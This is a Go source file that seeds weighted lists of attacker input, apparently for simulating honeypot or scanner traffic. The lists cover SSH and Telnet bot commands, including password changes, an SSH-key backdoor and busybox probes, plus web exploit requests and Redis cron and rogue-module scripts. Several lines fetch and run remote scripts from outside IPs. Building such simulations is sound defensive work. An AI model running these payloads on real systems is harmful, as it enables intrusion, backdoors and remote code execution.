package seed

import "strings"

// addCommands sets what is typed: single commands, scripts of one command a
// channel, and what bots type into a Telnet shell.
func (w *words) addCommands() {
	for i, text := range lines(`
uname -s -v -n -r -m
uname -a
/ip cloud print
ifconfig
uptime
cat /proc/cpuinfo
ps | grep '[Mm]iner'
ps -ef | grep '[Mm]iner'
echo Hi | cat -n
echo 'SSH check'
ls -la /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf*
locate D877F783D5D3EF8Cs
scp -t /tmp/nprmcfm7
cat /etc/passwd
w
nproc
cat /proc/mounts; ls -la /tmp; echo "ok"
./brute -l users.txt -p pass.txt -t 200 ips.txt
export HISTFILE=/dev/null; echo -e "\x6F\x6B"
echo root:Zx9PqLm2|chpasswd|bash
`) {
		w.single.add(1/float64(i+2), text)
	}
	w.scripts.add(3, lines(`
cat /proc/cpuinfo | grep name | wc -l
echo -e "321\n9fGh2k\n9fGh2k"|passwd|bash
Enter new UNIX password: 
echo "321" > /var/tmp/.var03522123
rm -rf /var/tmp/.var03522123
cat /var/tmp/.var03522123 | head -n 1
cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'
free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'
ls -lh $(which ls)
which ls
crontab -l
w
uname -m
cat /proc/cpuinfo | grep model | grep name | wc -l
top
uname
uname -a
lscpu | grep Model
cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~
rm -rf /var/tmp/dota*
`))
	w.scripts.add(2, lines(`
/ip cloud print
ifconfig
uname -a
cat /proc/cpuinfo
ps | grep '[Mm]iner'
ps -ef | grep '[Mm]iner'
ls -la ~/.local/share/TelegramDesktop/tdata /home/*/.local/share/TelegramDesktop/tdata /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd /var/qmux_connect_socket /etc/config/simman /dev/modem* /var/config/sms/*
locate D877F783D5D3EF8Cs
echo Hi | cat -n
`))
	w.shell.add(4, lines(`
enable
system
shell
sh
iptables -F
/bin/busybox cp /bin/busybox retrieve && >retrieve && /bin/busybox chmod 777 retrieve && /bin/busybox FBOT
/bin/busybox cat /bin/busybox || while read i; do /bin/busybox echo $i; done < /bin/busybox || /bin/busybox dd if=/bin/busybox bs=22 count=1
/bin/busybox SATORI
`))
	w.shell.add(3, lines(`
enable
system
shell
sh
ping ; sh
linuxshell
>/tmp/t && cd /tmp/ && >retrieve; >.t
>/var/t && cd /var/ && >retrieve; >.t
>/dev/shm/t && cd /dev/shm/ && >retrieve; >.t
>/mnt/t && cd /mnt/ && >retrieve; >.t
dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s
/bin/busybox wget; /bin/busybox tftp; /bin/busybox SATORI
rm .s; exit
`))
	w.shell.add(1, lines(`
sh
cat /proc/mounts; /bin/busybox QWERT
`))
}

// addRequests sets what is asked of web servers.
func (w *words) addRequests() {
	for i, text := range []string{
		"GET /", "GET /robots.txt", "GET /favicon.ico", "GET /login", "GET /admin/config.php", "HEAD /", "GET /.env", "GET /wp-login.php",
		"POST /wp-login.php log=admin&pwd=P%40ssw0rd%21&s=1", "GET /phpmyadmin/", "GET /.git/config", "GET /recordings/theme/main.css",
		"GET /shell?cd+/tmp;rm+-rf+.j;wget+http:/%5C/91.92.66.124/..j/.j;chmod+777+.j;sh+.j;echo+DONE", "GET /HNAP1/", "GET /actuator/health",
		"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php <?php echo md5('phpunit'); ?>", "GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh", "GET /owa/",
		"POST /boaform/admin/formLogin username=admin&psd=admin", "GET /api/v1/pods", "GET /index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array",
		"GET /manager/html", "GET /solr/admin/info/system?wt=json", "GET /SQLiteManager/main.php", "GET /hudson/script", "GET /sitemap.xml",
		`POST /api/v1/users {"ids":[1,2,3],"q":"a\"b"}`, "GET /TP/public/index.php", "GET /?XDEBUG_SESSION_START=phpstorm", "GET /search?q=%27%20OR%201=1--",
		"GET /${jndi:ldap://198.51.100.9:1389/a}", "GET /server-status", "GET /backup.zip", "GET /config.json", "GET /vendor/.env", "POST /GponForm/diag_Form?images/ XWebPageName=diag&diag_action=ping&wan_conlist=0",
	} {
		parts := strings.SplitN(text, " ", 3)
		r := request{method: parts[0], path: escape(parts[1])}
		if len(parts) == 3 {
			r.body = escape(parts[2])
		}
		w.requests.add(1/float64(i+1), r)
	}
}

// addRedis sets what is told to a Redis: scripts that end as a scheduled job, and
// looks around.
func (w *words) addRedis() {
	w.redis.add(5, lines("INFO"))
	w.redis.add(2, lines("PING\nINFO server\nQUIT"))
	w.redis.add(2, lines("INFO\nCONFIG SET dir /var/spool/cron/\nCONFIG SET dbfilename root\nSET x \"*/2 * * * * root curl -fsSL http://198.51.100.9/unk.sh | sh\"\nSAVE"))
	w.redis.add(1, lines("SLAVEOF 198.51.100.23 8886\nCONFIG SET dbfilename exp.so\nMODULE LOAD ./exp.so\nSLAVEOF NO ONE"))
}
